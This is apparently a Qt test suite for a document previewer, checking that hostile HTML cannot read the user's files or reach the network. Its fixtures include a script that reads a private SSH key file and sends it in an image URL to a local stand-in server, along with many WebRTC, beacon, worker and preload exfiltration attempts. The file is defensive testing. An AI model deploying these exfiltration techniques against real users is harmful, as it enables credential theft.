// Documents are untrusted: a hostile page must not read the user's files or
// reach the network, with or without its scripts, while the converters' own
// anchor links and images beside the document keep working.
// Local servers on 127.0.0.1 stand for the web.
#include <QApplication>
#include <QDesktopServices>
#include <QLabel>
#include <QNetworkDatagram>
#include <QPushButton>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QUdpSocket>

#include "DocumentTestSupport.h"
#include "support/OpenedUrls.h"
#include "support/PictureServer.h"
#include "QtTestSupport.h"
#include "app/AppDelegate.h"
#include "window/Document.h"
#include "window/PreviewController.h"
#include "pipeline/PreviewRequestPolicy.h"
#include "window/PreviewWebPage.h"
#include "window/PictureNoticeBar.h"
#include "window/ScriptNoticeBar.h"
#include "pipeline/FolderPermissions.h"
#include "window/ViewSettings.h"
#include "settings/SettingsStore.h"
#include "textbundle/Textbundle.h"

using namespace documenttestsupport;
using qttestsupport::writeFile;

namespace {

// Counts connections and keeps what they send. It never answers: a request
// that should not be made is seen, and one that may be made fails at once
// (the connection closes on its first bytes), so the page finishes loading.
class RecordingServer : public QObject {
public:
    RecordingServer() {
        server.listen(QHostAddress::LocalHost);
        connect(&server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = server.nextPendingConnection()) {
                ++connections;
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
                    received += socket->readAll();
                    socket->disconnectFromHost();
                });
            }
        });
    }
    QString url(const QString& scheme, const QString& path) const {
        return QString("%1://127.0.0.1:%2/%3").arg(scheme).arg(server.serverPort()).arg(path);
    }

    QTcpServer server;
    int connections = 0;
    QByteArray received;
};

// Counts the datagrams that reach a UDP port: what WebRTC and QUIC would
// send.
class UdpListener : public QObject {
public:
    UdpListener() {
        socket.bind(QHostAddress::LocalHost, 0);
        connect(&socket, &QUdpSocket::readyRead, this, [this] {
            while (socket.hasPendingDatagrams()) {
                socket.receiveDatagram();
                ++datagrams;
            }
        });
    }

    QUdpSocket socket;
    int datagrams = 0;
};

// What every page of the ways-out test starts with: `attempt` runs a try
// and marks the page as tried when it settled, so a try that throws still
// counts as made; `peer` opens a WebRTC connection with the given window's
// constructor and, given a peer's candidate, starts checking it.
const char* const kWaysOutPrelude = R"(<script>
var keep = [];
function tried() { document.documentElement.setAttribute('data-tried', 'yes'); }
function attempt(f) {
  try { Promise.resolve(f()).catch(function () {}).finally(tried); } catch (e) { tried(); }
}
function peer(w, servers, candidate) {
  var pc = new w.RTCPeerConnection({iceServers: servers});
  keep.push(pc);
  pc.createDataChannel('d');
  return pc.createOffer().then(function (offer) {
    return pc.setLocalDescription(offer).then(function () {
      if (!candidate) return new Promise(function (r) { setTimeout(r, 500); });
      return pc.setRemoteDescription({type: 'answer', sdp: offer.sdp.replace(/a=setup:actpass/g, 'a=setup:active')})
        .then(function () { return pc.addIceCandidate({candidate: candidate, sdpMid: '0'}); });
    });
  });
}
</script>
)";

struct FileState {
    QByteArray bytes;
    QDateTime modified;
    bool operator==(const FileState&) const = default;
};

FileState stateOf(const QString& path) {
    QFile file(path);
    file.open(QIODevice::ReadOnly);
    return {file.readAll(), QFileInfo(path).lastModified()};
}

}  // namespace

class SafePreviewTest : public QObject {
    Q_OBJECT

    std::unique_ptr<AppDelegate> delegate;
    QTemporaryDir home;      // the user's private files
    QTemporaryDir folder;    // where the downloaded document lies
    RecordingServer web;     // plain http
    RecordingServer secure;  // stands for an https server (the handshake shows the request was let through)
    OpenedUrls opened{{"http", "https", "mailto", "file", "smb"}};

    QString path(const QString& name) const { return folder.filePath(name); }
    QString secretPath() const { return home.filePath(".ssh/id_secret"); }

    Document* openAndWait(const QString& file) { return documenttestsupport::openAndWait(*delegate, file); }

    // A page that tries everything a hostile document would: read a private
    // file and send it away, load local files from outside its folder, reach
    // plain http, leave the page.
    QByteArray hostilePage() const {
        const QString secret = QUrl::fromLocalFile(secretPath()).toString();
        const QString secretImage = QUrl::fromLocalFile(home.filePath("private.png")).toString();
        return QString(R"(<h1>Release notes</h1>
<script>
document.body.setAttribute('data-ran', 'yes');
function read(url) {
  try { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText; }
  catch (e) { return ''; }
}
var outside = read('%2'), inside = read('inside.txt');
document.body.setAttribute('data-outside', outside);
document.body.setAttribute('data-inside', inside);
new Image().src = '%1?outside=' + encodeURIComponent(outside) + '&inside=' + encodeURIComponent(inside);
</script>
<img id="beside" src="beside.png">
<img id="private" src="%3">
<img id="srcset" srcset="%3 2x">
<img id="plain" src="%4">
<img id="badge" src="%5">
<link rel="stylesheet" href="%6">
<iframe src="%2"></iframe>
<object data="%2"></object>
<meta http-equiv="refresh" content="0; url=%7">
<p>The end.</p>
)")
            .arg(web.url("http", "report"), secret, secretImage, web.url("http", "plain.png"),
                 secure.url("https", "badge.png"), web.url("http", "style.css"), web.url("http", "refresh"))
            .toUtf8();
    }

    void clickElement(Document* document, const QString& selector) {
        const QVariantList centre = evaluate(document, QString("(function(){var e=document.querySelector('%1');"
                                                               "var r=e.getBoundingClientRect();"
                                                               "return [r.left+r.width/2, r.top+r.height/2];})()")
                                                           .arg(selector))
                                        .toList();
        QCOMPARE(centre.size(), 2);
        QWidget* surface = document->webView()->focusProxy();
        QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(centre[0].toInt(), centre[1].toInt()));
    }

    void saveScreenshot(Document* document, const QString& name) {
        document->resize(760, 420);
        documenttestsupport::saveScreenshot(document, name);
    }

    // A README with pictures from `pictures` and, pointing at `elsewhere`,
    // everything else a page could fetch.
    QByteArray pageWithPictures(const PictureServer& pictures, const RecordingServer& elsewhere) const {
        return QString(R"html(<h1>Read me</h1>
<img id="badge" src="%1"> <img id="shot" src="%2"> <img id="again" src="%1">
<p style="background: url('%3')">A background is a picture too.</p>
<link rel="stylesheet" href="%4">
<style>@font-face { font-family: f; src: url('%5'); } p { font-family: f; }</style>
<iframe src="%6"></iframe>
<script>fetch('%7');</script>
<p>The end.</p>
)html")
            .arg(pictures.url("badge.png"), pictures.url("shot.png"), pictures.url("background.png"),
                 elsewhere.url("http", "style.css"), elsewhere.url("http", "font.woff"), elsewhere.url("http", "frame"),
                 elsewhere.url("http", "fetch"))
            .toUtf8();
    }

    int naturalWidth(Document* document, const char* id) {
        return evaluate(document, QString("document.getElementById('%1').naturalWidth").arg(id)).toInt();
    }

    double scrollY(Document* document) { return evaluate(document, "window.scrollY").toDouble(); }

private slots:
    void initTestCase() {
        delegate = std::make_unique<AppDelegate>();
        writeFile(secretPath(), "PRIVATE KEY");
        writeFile(home.filePath("private.png"), png(30, 30));
        writeFile(path("beside.png"), png(12, 12));
        writeFile(path("inside.txt"), "NOTES");
    }

    void cleanup() {
        QApplication::closeAllWindows();
        QTest::qWait(50);
        SettingsStore::shared().reset(SettingsStore::Setting::scriptsAllowedFolders);
        SettingsStore::shared().reset(SettingsStore::Setting::remotePicturesAllowedFolders);
        SettingsStore::shared().reset(SettingsStore::Setting::selectedCssStyle);
        opened.urls.clear();
    }

    void aHostileDocumentReadsNothingAndSendsNothing() {
        writeFile(path("hostile.html"), hostilePage());
        // The spy is there before the page loads: a reload would not ask
        // for the unchanged blocks' images again.
        Document* document = delegate->openDocument(path("hostile.html"));
        QVERIFY(document);
        QSignalSpy refused(qobject_cast<PreviewWebPage*>(document->webView()->page())->requestPolicy(),
                           &PreviewRequestPolicy::requestRefused);
        QVERIFY(waitForLoads(document, 1));
        QTest::qWait(1500);  // room for the badge and the refresh

        QCOMPARE(web.connections, 0);
        QCOMPARE(secure.connections, 0);
        QVERIFY(evaluate(document, "document.body.getAttribute('data-ran')").isNull());
        QVERIFY(bodyText(document).contains("The end."));
        QVERIFY(evaluate(document, "document.getElementById('beside').naturalWidth").toInt() == 12);
        QCOMPARE(evaluate(document, "document.getElementById('private').naturalWidth").toInt(), 0);
        QCOMPARE(evaluate(document, "document.getElementById('srcset').naturalWidth").toInt(), 0);
        QStringList refusedUrls;
        for (const QList<QVariant>& arguments : refused)
            refusedUrls << arguments.first().toUrl().toString();
        QVERIFY2(refusedUrls.contains(QUrl::fromLocalFile(secretPath()).toString()), qPrintable(refusedUrls.join(' ')));
        QVERIFY(refusedUrls.contains(QUrl::fromLocalFile(home.filePath("private.png")).toString()));
        QVERIFY(opened.urls.isEmpty());
        QVERIFY(document->scriptNotice()->isVisible());
        saveScreenshot(document, "script-notice");
    }


    // "Load Pictures" lets the pictures come, for this window only, and
    // nothing else; "Always for This Folder" is kept.
    void picturesLoadByConsentAndNothingElseLeaves() {
        PictureServer pictures;
        RecordingServer elsewhere;
        const QString file = folder.filePath("pictured/README.html");
        writeFile(file, pageWithPictures(pictures, elsewhere));
        Document* document = openAndWait(file);
        QVERIFY(document);
        PictureNoticeBar* bar = document->pictureNotice();
        QVERIFY(QTest::qWaitFor([&] { return bar->isVisible(); }, 5000));
        // Every distinct picture the page names counts, a background too.
        QVERIFY2(QTest::qWaitFor([&] { return bar->findChild<QLabel*>()->text().contains(" 3 picture"); }, 5000),
                 qPrintable(bar->findChild<QLabel*>()->text()));
        QCOMPARE(naturalWidth(document, "badge"), 0);
        QVERIFY2(pictures.paths.isEmpty(), qPrintable(pictures.paths.join(' ')));
        saveScreenshot(document, "pictures-refused");

        const int loads = document->preview()->completedLoads();
        QTest::mouseClick(bar->loadButton(), Qt::LeftButton);
        QVERIFY(waitForLoads(document, loads + 1));
        QVERIFY(QTest::qWaitFor([&] { return naturalWidth(document, "badge") == 48; }, 5000));
        QCOMPARE(naturalWidth(document, "again"), 48);
        QTest::qWait(1500);
        QStringList asked = pictures.paths;
        asked.removeDuplicates();
        asked.sort();
        QCOMPARE(asked, QStringList({"/background.png", "/badge.png", "/shot.png"}));
        QVERIFY2(elsewhere.connections == 0, elsewhere.received.left(300).constData());
        QVERIFY(!bar->isVisible());
        QVERIFY(!folderpermissions::areRemotePicturesAllowedInFolder(QFileInfo(file).path()));
        saveScreenshot(document, "pictures-loaded");

        // The choice ends with the window; the folder's choice is kept.
        document->close();
        QTest::qWait(100);
        document = openAndWait(file);
        QVERIFY(document);
        QVERIFY(QTest::qWaitFor([&] { return document->pictureNotice()->isVisible(); }, 5000));
        QTest::mouseClick(document->pictureNotice()->alwaysButton(), Qt::LeftButton);
        QVERIFY(QTest::qWaitFor([&] { return naturalWidth(document, "shot") == 48; }, 5000));
        QVERIFY(folderpermissions::areRemotePicturesAllowedInFolder(QFileInfo(file).path()));
        document->close();
        QTest::qWait(100);
        document = openAndWait(file);
        QVERIFY(document);
        QVERIFY(QTest::qWaitFor([&] { return naturalWidth(document, "shot") == 48; }, 5000));
        QVERIFY(!document->pictureNotice()->isVisible());
        QCOMPARE(elsewhere.connections, 0);
    }

    // A page whose scripts run reaches no server, even where its pictures
    // are allowed: a script could put what it read into a picture's address.
    void withScriptsAllowedNoPictureLoads() {
        PictureServer pictures;
        RecordingServer elsewhere;
        const QString file = folder.filePath("scripted-pictures/README.html");
        writeFile(file, pageWithPictures(pictures, elsewhere) + "<script>document.body.setAttribute('data-ran', 'yes');"
                                                                "new Image().src = '" + pictures.url("sent.png").toUtf8()
                                                                + "';</script>");
        folderpermissions::allowScriptsInFolder(QFileInfo(file).path());
        folderpermissions::allowRemotePicturesInFolder(QFileInfo(file).path());
        Document* document = openAndWait(file);
        QVERIFY(document);
        QVERIFY(QTest::qWaitFor(
            [&] { return evaluate(document, "document.body.getAttribute('data-ran')").toString() == "yes"; }, 10000));
        QTest::qWait(1500);
        QVERIFY2(pictures.paths.isEmpty(), qPrintable(pictures.paths.join(' ')));
        QCOMPARE(elsewhere.connections, 0);
        QCOMPARE(naturalWidth(document, "badge"), 0);
        QVERIFY(!document->pictureNotice()->isVisible());
    }

    void allowedScriptsReadNothingOutsideTheirFolderAndReachNoServer() {
        writeFile(path("hostile.html"), hostilePage());
        Document* document = openAndWait(path("hostile.html"));
        QVERIFY(document);
        QVERIFY(QTest::qWaitFor([&] { return document->scriptNotice()->isVisible(); }, 5000));
        const int loads = document->preview()->completedLoads();
        QTest::mouseClick(document->scriptNotice()->allowButton(), Qt::LeftButton);
        QVERIFY(waitForLoads(document, loads + 1));
        QVERIFY(folderpermissions::areScriptsAllowedInFolder(folder.path()));
        QVERIFY(!folderpermissions::areScriptsAllowedInFolder(home.path()));

        // The script runs and reads its own folder, nothing outside it, and
        // reaches no server, not even the https badge.
        QVERIFY(QTest::qWaitFor(
            [&] { return evaluate(document, "document.body.getAttribute('data-ran')").toString() == "yes"; }, 10000));
        QCOMPARE(evaluate(document, "document.body.getAttribute('data-inside')").toString(), QString("NOTES"));
        QCOMPARE(evaluate(document, "document.body.getAttribute('data-outside')").toString(), QString());
        QTest::qWait(1500);
        QCOMPARE(web.connections, 0);
        QCOMPARE(secure.connections, 0);
        QVERIFY(!document->scriptNotice()->isVisible());
        QVERIFY(bodyText(document).contains("The end."));  // the refresh did not leave the page
        QVERIFY(opened.urls.isEmpty());
    }

    // Ways to the network that make no request the policy sees (WebRTC,
    // QUIC, sockets of shared workers, preconnections), next to those that
    // do, from a folder whose scripts the user allowed. %UDP% and %TCP% are
    // the ports of a local UDP listener and TCP server, which must hear
    // nothing. (Lookups of names cannot be watched from here.)
    void noWayOutPastTheRequestPolicy_data() {
        QTest::addColumn<QString>("page");
        QTest::addColumn<QString>("click");  // an element the user clicks first, for what needs a gesture
        auto row = [](const char* name, const QString& body, const QString& click = {}) {
            QTest::newRow(name) << body << click;
        };
        const QString stun = "[{urls: 'stun:127.0.0.1:%UDP%'}]";
        const QString turn = "[{urls: 'turn:127.0.0.1:%1', username: 'u', credential: 'p'}]";
        const QString peerOf = "<script>attempt(function () { return peer(%1); });</script>";
        row("webrtc stun", peerOf.arg("window, " + stun));
        row("webrtc stun, constructor of a fresh frame",
            "<script>var f = document.createElement('iframe'); document.body.appendChild(f);</script>"
                + peerOf.arg("f.contentWindow, " + stun));
        row("webrtc stun, script of a srcdoc frame",
            QString("<iframe srcdoc=\"<script>parent.attempt(function () { return parent.peer(window, %1); });"
                    "</script>\"></iframe>").arg(stun));
        row("webrtc turn over udp", peerOf.arg("window, " + turn.arg("%UDP%")));
        row("webrtc turn over tcp", peerOf.arg("window, " + turn.arg("%TCP%?transport=tcp")));
        row("webrtc checks a peer's udp address",
            peerOf.arg("window, [], 'candidate:1 1 udp 2122260223 127.0.0.1 %UDP% typ host'"));
        row("webrtc checks a peer's tcp address",
            peerOf.arg("window, [], 'candidate:1 1 tcp 1518280447 127.0.0.1 %TCP% typ host tcptype passive'"));
        row("webtransport",
            "<script>attempt(function () { keep.push(new WebTransport('https://127.0.0.1:%UDP%/t')); });</script>");
        row("link hints",
            "<link rel=preconnect href='http://127.0.0.1:%TCP%'>"
            "<link rel=prefetch href='http://127.0.0.1:%TCP%/prefetch'>"
            "<link rel=prerender href='http://127.0.0.1:%TCP%/prerender'>"
            "<link rel=preload as=image href='http://127.0.0.1:%TCP%/preload'>"
            "<link rel=modulepreload href='http://127.0.0.1:%TCP%/modulepreload'>"
            "<script type=speculationrules>"
            "{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"http://127.0.0.1:%TCP%/rules\"]}]}</script>"
            "<script>attempt(function () {});</script>");
        row("websocket and event source",
            "<script>attempt(function () { keep.push(new WebSocket('ws://127.0.0.1:%TCP%/socket'));"
            " keep.push(new EventSource('http://127.0.0.1:%TCP%/events')); });</script>");
        row("beacon and keep-alive fetch",
            "<script>attempt(function () { navigator.sendBeacon('http://127.0.0.1:%TCP%/beacon', 'x');"
            " return fetch('http://127.0.0.1:%TCP%/keepalive', {method: 'POST', body: 'x', keepalive: true}); });"
            "</script>");
        row("websockets of workers",
            "<script>attempt(function () {"
            " var code = URL.createObjectURL(new Blob([\"new WebSocket('ws://127.0.0.1:%TCP%/worker-socket');\"]));"
            " keep.push(new Worker(code), new SharedWorker(code)); });</script>");
        row("fetch of workers",
            "<script>attempt(function () {"
            " var code = URL.createObjectURL(new Blob([\"fetch('http://127.0.0.1:%TCP%/worker');\"]));"
            " keep.push(new Worker(code), new SharedWorker(code));"
            " return navigator.serviceWorker && navigator.serviceWorker.register('http://127.0.0.1:%TCP%/sw.js'); });"
            "</script>");
        row("style sheets and fonts",
            "<style>@import 'http://127.0.0.1:%TCP%/import.css';"
            " @font-face { font-family: f; src: url('http://127.0.0.1:%TCP%/font.woff'); } p { font-family: f; }</style>"
            "<p style=\"background: url('http://127.0.0.1:%TCP%/background.png')\">text</p>"
            "<svg><image href='http://127.0.0.1:%TCP%/svg.png' width=9 height=9 /></svg>"
            "<script>attempt(function () {"
            " return new FontFace('g', \"url('http://127.0.0.1:%TCP%/face.woff')\").load(); });</script>");
        row("media",
            "<video src='http://127.0.0.1:%TCP%/video.mp4' poster='http://127.0.0.1:%TCP%/poster.png' preload=auto>"
            "</video><audio src='http://127.0.0.1:%TCP%/audio.mp3' preload=auto></audio>"
            "<script>attempt(function () {});</script>");
        row("ping, forms, popups, downloads and frames",
            "<a id=ping ping='http://127.0.0.1:%TCP%/ping' href='#here'>ping</a>"
            "<a id=download download href='http://127.0.0.1:%TCP%/download'>download</a>"
            "<iframe name=target></iframe>"
            "<form id=form target=target method=post action='http://127.0.0.1:%TCP%/form'><input name=a></form>"
            "<iframe srcdoc=\"<meta http-equiv=refresh content='0; url=http://127.0.0.1:%TCP%/refresh'>\"></iframe>"
            "<script>attempt(function () {"
            " document.getElementById('ping').click(); document.getElementById('download').click();"
            " document.getElementById('form').submit(); window.open('http://127.0.0.1:%TCP%/popup');"
            " var w = window.open(''); if (w) w.document.write(\"<img src='http://127.0.0.1:%TCP%/popup.png'>\"); });"
            "</script>");
        row("a popup opened on a click",
            "<button id=open style='width: 300px; height: 80px' onclick=\"attempt(function () {"
            " var w = window.open(''); keep.push(w);"
            " w.document.write('<img src=http://127.0.0.1:%TCP%/popup.png>'); w.document.close();"
            " new w.WebSocket('ws://127.0.0.1:%TCP%/popup-socket'); return w.fetch('http://127.0.0.1:%TCP%/popup'); });\">"
            "open</button>",
            "#open");
    }

    void noWayOutPastTheRequestPolicy() {
        QFETCH(QString, page);
        QFETCH(QString, click);
        RecordingServer tcp;
        UdpListener udp;
        const QString folderPath = folder.filePath("scripted");
        folderpermissions::allowScriptsInFolder(folderPath);
        const QString file = folderPath + "/ways-out.html";
        writeFile(file, (kWaysOutPrelude + page.replace("%UDP%", QString::number(udp.socket.localPort()))
                                                .replace("%TCP%", QString::number(tcp.server.serverPort())))
                            .toUtf8());
        Document* document = openAndWait(file);
        QVERIFY(document);
        if (!click.isEmpty()) {
            document->show();
            QVERIFY(QTest::qWaitForWindowExposed(document));
            clickElement(document, click);
        }
        QVERIFY2(QTest::qWaitFor([&] {
                     return evaluate(document, "document.documentElement.getAttribute('data-tried')").toString() == "yes";
                 }, 10000),
                 "the page's script did not run to its end");
        QTest::qWait(3000);  // room for retries: ICE sends its checks again after a while
        QVERIFY2(udp.datagrams == 0, qPrintable(QString("%1 datagrams").arg(udp.datagrams)));
        QVERIFY2(tcp.connections == 0, qPrintable(QString("%1 connections: %2")
                                                      .arg(tcp.connections)
                                                      .arg(QString::fromUtf8(tcp.received.left(300)))));
    }

    // Our own rendering (code colours, math, diagrams) runs with the
    // document's scripts off and fetches nothing, also where the document
    // asks for addresses through it. %TCP% is a local server's port.
    void codeMathAndDiagramsRenderOffline_data() {
        QTest::addColumn<QString>("markdown");
        QTest::addColumn<QString>("rendered");  // what must be in the page once rendered
        const QString script = "\n<script>document.documentElement.setAttribute('data-ran', 'yes');</script>\n";
        QTest::newRow("all three, and a script of the document")
            << "```python\ndef f(x):\n    return x * 2\n```\n\nInline $a*b*c$ and\n\n$$\\frac{1}{2}$$\n\n"
               "```mermaid\nflowchart LR\n  A --> B\n```\n" + script
            << "code .hljs-keyword, span.math .katex, span.math .katex-display, pre svg";
        QTest::newRow("addresses in a diagram")
            << "```mermaid\nflowchart LR\n  A[\"<img src='http://127.0.0.1:%TCP%/label.png'>\"] --> B\n"
               "  click A href \"http://127.0.0.1:%TCP%/click\"\n```\n"
               + script
            << "pre svg";
        QTest::newRow("addresses in math")
            << "$\\href{http://127.0.0.1:%TCP%/href}{x}$ and $\\includegraphics{http://127.0.0.1:%TCP%/g.png}$\n"
               + script
            << "span.math";
    }

    void codeMathAndDiagramsRenderOffline() {
        QFETCH(QString, markdown);
        QFETCH(QString, rendered);
        RecordingServer tcp;
        const QString file = path("rendering.md");
        writeFile(file, markdown.replace("%TCP%", QString::number(tcp.server.serverPort())).toUtf8());
        Document* document = openAndWait(file);
        QVERIFY(document);
        for (const QString& selector : rendered.split(", "))
            QVERIFY2(QTest::qWaitFor([&] {
                         return evaluate(document, QString("!!document.querySelector(\"%1\")").arg(selector)).toBool();
                     }, 15000),
                     qPrintable(selector));
        QTest::qWait(1000);
        QVERIFY(evaluate(document, "document.documentElement.getAttribute('data-ran')").isNull());
        QVERIFY2(tcp.connections == 0, qPrintable(QString::fromUtf8(tcp.received.left(300))));
    }

    void anchorLinksScrollWithoutDocumentScripts_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QString>("link");
        QTest::addColumn<QString>("back");
        QByteArray filler;
        for (int i = 0; i < 150; ++i)
            filler += "Paragraph " + QByteArray::number(i) + " of a long text.\n\n";
        QTest::newRow("footnote") << "notes.md" << "Text with a note.[^1]\n\n" + filler + "[^1]: The note.\n"
                                  << "a.footnote"
                                  << "a.reversefootnote";
        QTest::newRow("table of contents") << "contents.tsl" << "+tableofcontents+\n\n" + filler + "# Far heading\n\ntext\n"
                                           << "a[onclick]"
                                           << "";
    }

    void anchorLinksScrollWithoutDocumentScripts() {
        QFETCH(QString, file);
        QFETCH(QByteArray, text);
        QFETCH(QString, link);
        QFETCH(QString, back);
        writeFile(path(file), text);
        Document* document = openAndWait(path(file));
        QVERIFY(document);
        document->show();
        QVERIFY(QTest::qWaitForWindowExposed(document));
        QVERIFY(document->lastFragment().contains("onclick=\"document.location.hash="));
        QCOMPARE(scrollY(document), 0.0);
        clickElement(document, link);
        QVERIFY(QTest::qWaitFor([&] { return scrollY(document) > 1000; }, 5000));
        QVERIFY(!document->scriptNotice()->isVisible());
        if (back.isEmpty())
            return;
        clickElement(document, back);
        QVERIFY(QTest::qWaitFor([&] { return scrollY(document) < 200; }, 5000));
    }

    void linksToLocalFilesAreRevealedNeverRun() {
        writeFile(path("tool.sh"), "#!/bin/sh\ntouch \"$(dirname \"$0\")/ran\"\n");
        QFile::setPermissions(path("tool.sh"), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        writeFile(path("launcher.desktop"), "[Desktop Entry]\nType=Application\nExec=touch ran\n");
        writeFile(path("links.html"), "<a id=\"tool\" href=\"tool.sh\">tool</a> <a id=\"launcher\" href=\"launcher.desktop\">l</a>"
                                      " <a id=\"web\" href=\"https://example.org/page\">web</a>"
                                      " <a id=\"share\" href=\"smb://server/share\">share</a>");
        Document* document = openAndWait(path("links.html"));
        QVERIFY(document);
        QSignalSpy windows(document, &Document::openFileRequested);
        auto* page = qobject_cast<PreviewWebPage*>(document->webView()->page());
        QSignalSpy revealed(page, &PreviewWebPage::revealFileRequested);

        for (const char* id : {"tool", "launcher", "web", "share"})
            evaluate(document, QString("document.getElementById('%1').click()").arg(id));
        QVERIFY(QTest::qWaitFor([&] { return revealed.count() == 2; }, 5000));
        QTest::qWait(300);
        QCOMPARE(revealed.at(0).first().toString(), path("tool.sh"));
        QCOMPARE(revealed.at(1).first().toString(), path("launcher.desktop"));
        QCOMPARE(windows.count(), 0);
        // Without a file manager on the bus the folder opens; the browser
        // gets the web link; the share link starts nothing.
        QVERIFY(opened.urls.contains(QUrl("https://example.org/page")));
        QVERIFY(opened.urls.contains(QUrl::fromLocalFile(folder.path())));
        QVERIFY(!opened.urls.contains(QUrl::fromLocalFile(path("tool.sh"))));
        QVERIFY(!opened.urls.contains(QUrl("smb://server/share")));
        QVERIFY(!QFile::exists(path("ran")));
    }

    void filesThatAreNoTextGiveANotice_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QString>("notice");
        QTest::newRow("image renamed") << "picture.md" << "This is not a text file";
        QTest::newRow("NUL bytes") << "zeros.md" << "This is not a text file";
        QTest::newRow("100 MB") << "huge.md" << "The file is too large to preview";
    }

    void filesThatAreNoTextGiveANotice() {
        QFETCH(QString, file);
        QFETCH(QString, notice);
        writeFile(path("picture.md"), png(64, 64));
        writeFile(path("zeros.md"), QByteArray(4096, '\0'));
        QFile huge(path("huge.md"));
        QVERIFY(huge.open(QIODevice::WriteOnly) && huge.resize(100LL * 1024 * 1024));  // sparse: no disk used
        huge.close();
        Document* document = openAndWait(path(file));
        QVERIFY(document);
        QVERIFY(waitForBodyText(document, notice, 5000));
        QVERIFY(document->lastFragment().isEmpty());
        saveScreenshot(document, "notice-" + file);
    }

    void eachTextPackWindowUnpacksIntoItsOwnFolderRemovedWithIt() {
        writeFile(path("source/pic.png"), png(21, 7));
        Textbundle writer;
        QVERIFY(writer.writeTextpackForString("<p>first</p><img src=\"assets/pic.png\">", path("First.textpack"),
                                              {path("source/pic.png")}, "html"));
        QVERIFY(writer.writeTextpackForString("<p>second</p><img src=\"assets/pic.png\">", path("Second.textpack"),
                                              {path("source/pic.png")}, "html"));
        Document* first = openAndWait(path("First.textpack"));
        Document* second = openAndWait(path("Second.textpack"));
        QVERIFY(first && second);
        const QString firstFolder = first->baseURL().toLocalFile();
        const QString secondFolder = second->baseURL().toLocalFile();
        QVERIFY(QFileInfo(firstFolder).isDir() && QFileInfo(secondFolder).isDir());
        QVERIFY(firstFolder != secondFolder);
        first->close();
        QTRY_VERIFY(!QFileInfo::exists(firstFolder));
        // The other window's images still load after the first one closed.
        const int loads = second->preview()->completedLoads();
        second->reloadTxt();
        QVERIFY(waitForLoads(second, loads + 1));
        QVERIFY(QTest::qWaitFor([&] { return evaluate(second, "document.images[0].naturalWidth").toInt() == 21; }, 5000));
        QVERIFY(QFileInfo(secondFolder).isDir());
    }

    void aVanishedFileGivesANoticeAndTheFileIsNeverWritten() {
        const QString file = path("kept.md");
        writeFile(file, "# Kept\n\nSome *text*.\n");
        const FileState before = stateOf(file);
        Document* document = openAndWait(file);
        QVERIFY(document);
        int loads = document->preview()->completedLoads();
        document->reloadTxt();
        QVERIFY(waitForLoads(document, loads + 1));
        document->copyHtml();
        document->revealInFileManager();
        loads = document->preview()->completedLoads();
        viewsettings::selectCSSStyle("Manuscript_Dark");
        QVERIFY(waitForLoads(document, loads + 1));
        QCOMPARE(stateOf(file), before);

        const QString aside = path("kept.md.aside");
        QVERIFY(QFile::rename(file, aside));
        loads = document->preview()->completedLoads();
        document->reloadTxt();
        QVERIFY(waitForLoads(document, loads + 1));
        QVERIFY(waitForBodyText(document, "The file is not there", 5000));
        QVERIFY(QFile::rename(aside, file));
        loads = document->preview()->completedLoads();
        document->reloadTxt();
        QVERIFY(waitForBodyText(document, "Kept", 5000));
        document->close();
        QTest::qWait(100);
        QCOMPARE(stateOf(file), before);
    }
};

QUILL_QTEST_MAIN(SafePreviewTest, QApplication)
#include "SafePreviewTest.moc"
